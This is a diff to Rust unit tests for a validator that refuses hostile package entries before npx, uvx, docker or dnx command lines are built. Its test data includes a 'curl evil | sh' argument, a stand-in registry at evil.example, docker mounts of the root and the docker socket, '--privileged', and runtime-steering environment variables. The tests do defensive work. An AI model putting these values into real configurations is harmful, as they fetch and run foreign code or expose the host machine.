@@ -367,9 +367,9 @@ fn hostile_entries_are_refused_with_words() {
         (npm(json!({"transport": {"type": "streamable-http", "url": "http://localhost:1"}})), "it serves HTTP by itself"),
         (npm(json!({"fileSha256": "ABC"})), "64 hexadecimal digits"),
         (npm(json!({"runtimeHint": "bash", "runtimeArguments": [{"type": "positional", "value": "-c"}]})), "its runtime `bash` is none"),
-        (npm(json!({"runtimeArguments": [{"type": "named", "name": "--call", "value": "curl evil | sh"}]})), "decides which code is run"),
-        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "-cevil"}]})), "decides which code is run"),
-        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "--registry=https://evil.example"}]})), "decides which code is run"),
+        (npm(json!({"runtimeArguments": [{"type": "named", "name": "--call", "value": "curl evil | sh"}]})), "for npx is none of those that are known not to decide which code is run"),
+        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "-cevil"}]})), "`-cevil` for npx is none of those"),
+        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "--registry=https://evil.example"}]})), "`--registry=https://evil.example` for npx is none of those"),
         (npm(json!({"packageArguments": [{"type": "named", "name": "--a b; rm"}]})), "must be the flag alone"),
         (npm(json!({"packageArguments": [{"type": "positional", "value": "a\nb"}]})), "a terminal obeys"),
         (npm(json!({"packageArguments": [{"type": "positional"}]})), "lacks `value` or `valueHint`"),
@@ -382,7 +382,7 @@ fn hostile_entries_are_refused_with_words() {
         (oci(json!({"identifier": "example/weather:latest"})), "`latest` names another image each day"),
         (oci(json!({"identifier": "example/weather"})), "neither a tag nor a digest"),
         (oci(json!({"identifier": "example/weather@sha256:zz"})), "its digest is none"),
-        (oci(json!({"runtimeArguments": [{"type": "named", "name": "--privileged"}]})), "decides which code is run"),
+        (oci(json!({"runtimeArguments": [{"type": "named", "name": "--privileged"}]})), "`--privileged` for docker is none of those"),
         (oci(json!({"runtimeArguments": [{"type": "named", "name": "-v", "value": "/var/run/docker.sock:/s"}]})), "the socket of docker is the whole machine"),
         (oci(json!({"registryBaseUrl": "https://evil.example"})), "stands beside the image: it must be the beginning"),
         (npm(json!({"registryType": "mcpb", "identifier": "http://example.com/a.mcpb", "fileSha256": "a".repeat(64)})), "fetched by `https://` alone"),
@@ -411,6 +411,191 @@ fn hostile_entries_are_refused_with_words() {
             told.contains(expected),
             "{entry}\nexpected {expected}\nfound    {told}"
         );
+    }
+}
+
+#[test]
+fn a_runtime_is_told_what_is_known_to_be_harmless_and_nothing_else() {
+    let package = |kind: &str, arguments: &Value| {
+        let identifier = match kind {
+            "oci" => "example/weather:1.0.0",
+            _ => "weather",
+        };
+        of_package(json!({
+            "registryType": kind, "identifier": identifier, "version": "1.0.0", "runtimeArguments": arguments,
+            "packageArguments": [{"type": "positional", "value": "evil:1"}],
+        }))
+    };
+    let named = |name: &str, value: &str| json!({"type": "named", "name": name, "value": value});
+    let flag = |name: &str| json!({"type": "named", "name": name});
+    let word = |value: &str| json!({"type": "positional", "value": value});
+    let refused = [
+        ("npm", json!([word("evil")]), "the word `evil` for npx"),
+        ("npm", json!([flag("evil")]), "the word `evil` for npx"),
+        ("npm", json!([named("--cal", "evil")]), "`--cal=evil`"),
+        ("npm", json!([flag("--cal"), word("evil")]), "`--cal`"),
+        ("npm", json!([flag("-yp"), word("evil")]), "`-yp`"),
+        ("npm", json!([named("-y", "evil")]), "the word `evil`"),
+        (
+            "npm",
+            json!([named("--yes", "evil")]),
+            "`--yes` takes no value",
+        ),
+        ("npm", json!([named("--reg", "http://evil")]), "`--reg="),
+        ("npm", json!([flag("--")]), "`--` for npx"),
+        ("pypi", json!([word("evil")]), "the word `evil` for uvx"),
+        (
+            "pypi",
+            json!([named("-p", "/tmp/evil")]),
+            "the value of `-p` must be",
+        ),
+        (
+            "pypi",
+            json!([named("--python", "/tmp/evil")]),
+            "the value of `--python`",
+        ),
+        (
+            "pypi",
+            json!([flag("-p")]),
+            "would take the package for its value",
+        ),
+        (
+            "oci",
+            json!([word("evil:1")]),
+            "the word `evil:1` for docker",
+        ),
+        (
+            "oci",
+            json!([word("-i"), word("run")]),
+            "the word `run` for docker",
+        ),
+        ("oci", json!([named("-itv", "/:/h")]), "`-itv`"),
+        (
+            "oci",
+            json!([named("-v", "/:/h")]),
+            "leads to `/` of this machine",
+        ),
+        ("oci", json!([flag("-v/:/h")]), "`-v/:/h` for docker"),
+        ("oci", json!([named("-v", "../x:/h")]), "leads to `../x`"),
+        (
+            "oci",
+            json!([named("--mount", "type=bind,src=/var/run,dst=/r")]),
+            "leads to `/var/run`",
+        ),
+        (
+            "oci",
+            json!([named(
+                "--mount",
+                "type=volume,src=a,dst=/r,volume-opt=device=/"
+            )]),
+            "has `volume-opt=device=/`",
+        ),
+        (
+            "oci",
+            json!([named("--network", "container:db")]),
+            "is no name of a network",
+        ),
+        (
+            "oci",
+            json!([flag("--name")]),
+            "would take the package for its value",
+        ),
+        ("nuget", json!([word("Evil")]), "the word `Evil` for dnx"),
+        (
+            "nuget",
+            json!([named("--add-sourc", "http://evil")]),
+            "`--add-sourc=",
+        ),
+    ];
+    for (kind, arguments, expected) in refused {
+        let told = refusal(&package(kind, &arguments).to_string());
+        assert!(
+            told.contains(expected),
+            "{arguments}: expected {expected}\nfound {told}"
+        );
+    }
+    let taken = [
+        (
+            "npm",
+            json!([flag("-y"), flag("--quiet")]),
+            "npx -y --quiet weather@1.0.0 evil:1",
+        ),
+        (
+            "pypi",
+            json!([named("--python", "3.12"), flag("-q")]),
+            "uvx --python=3.12 -q weather@1.0.0 evil:1",
+        ),
+        // A value is no word of ours, or the image would be taken for it.
+        (
+            "oci",
+            json!([
+                word("run"),
+                flag("--rm"),
+                named("-e", "run"),
+                named("-v", "data:/data")
+            ]),
+            "docker run -i --rm -e run -v data:/data example/weather:1.0.0 evil:1",
+        ),
+    ];
+    for (kind, arguments, expected) in taken {
+        let plan = planned(&package(kind, &arguments), &[]);
+        assert_eq!((line(&plan).as_str(), &plan.refused), (expected, &vec![]));
+    }
+    // A path that the operator gives is the operator's choice; one that the publisher proposes is not.
+    let mount = |variable: Value| {
+        let value = json!([{"type": "named", "name": "-v", "value": "{place}:/data", "variables": {"place": variable}}]);
+        package("oci", &value)
+    };
+    let plan = planned(
+        &mount(json!({"isRequired": true})),
+        &[("place", "/srv/data")],
+    );
+    assert_eq!(plan.refused, Vec::<String>::new());
+    assert!(
+        plan.warnings
+            .iter()
+            .any(|it| it.contains("`-v /srv/data:/data`")),
+        "{:?}",
+        plan.warnings
+    );
+    let told = refusal(&mount(json!({"default": "/"})).to_string());
+    assert!(told.contains("leads to `/` of this machine"), "{told}");
+}
+
+#[test]
+fn variables_that_steer_a_runtime_are_refused() {
+    let entry = |name: &str| {
+        of_package(json!({
+            "registryType": "pypi", "identifier": "weather", "version": "1.0.0",
+            "environmentVariables": [{"name": name, "value": "x"}],
+        }))
+        .to_string()
+    };
+    for name in [
+        "PYTHONPATH",
+        "PYTHONUSERBASE",
+        "XDG_CONFIG_HOME",
+        "HTTPS_PROXY",
+        "https_proxy",
+        "ALL_PROXY",
+        "VIRTUAL_ENV",
+        "NODE_TLS_REJECT_UNAUTHORIZED",
+        "GIT_SSH_COMMAND",
+        "REQUESTS_CA_BUNDLE",
+        "OPENSSL_CONF",
+        "NUGET_PACKAGES",
+    ] {
+        let told = refusal(&entry(name));
+        assert!(told.contains("decides which code is run"), "{name}: {told}");
+    }
+    for name in [
+        "API_KEY",
+        "SSL_MODE",
+        "PYTHONUNBUFFERED",
+        "NODE_ENV",
+        "PERSONAL_TOKEN",
+    ] {
+        assert_eq!(refusal(&entry(name)), "", "{name}");
     }
 }
 
